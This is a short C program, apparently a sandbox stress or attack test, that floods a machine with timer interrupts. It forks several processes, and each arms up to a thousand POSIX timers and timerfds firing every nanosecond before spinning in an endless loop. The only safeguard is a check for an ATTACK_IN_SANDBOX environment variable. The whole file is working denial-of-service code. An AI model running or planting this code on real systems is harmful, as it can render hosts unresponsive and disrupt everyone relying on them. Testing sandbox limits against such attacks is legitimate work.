// have a thousand timers of a nanosecond interrupt it in many processes, so that the machine handles nothing else
#include <signal.h>
#include <stdlib.h>
#include <sys/timerfd.h>
#include <time.h>
#include <unistd.h>

static void ignore(int number) { (void)number; }

int main(void) {
    if (!getenv("ATTACK_IN_SANDBOX")) return 1;
    signal(SIGRTMIN, ignore);
    for (int i = 0; i < 4; i++)
        if (fork() == 0) break;
    const struct itimerspec often = {{0, 1}, {0, 1}};
    for (int i = 0; i < 1000; i++) {
        timer_t timer;
        struct sigevent event = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGRTMIN};
        const clockid_t clocks[] = {CLOCK_REALTIME, CLOCK_MONOTONIC, CLOCK_PROCESS_CPUTIME_ID, CLOCK_BOOTTIME};
        if (timer_create(clocks[i % 4], &event, &timer) == 0) timer_settime(timer, 0, &often, NULL);
        const int fd = i < 900 ? timerfd_create(CLOCK_MONOTONIC, TFD_NONBLOCK) : -1;
        if (fd >= 0) timerfd_settime(fd, 0, &often, NULL);
    }
    for (;;) {}
}
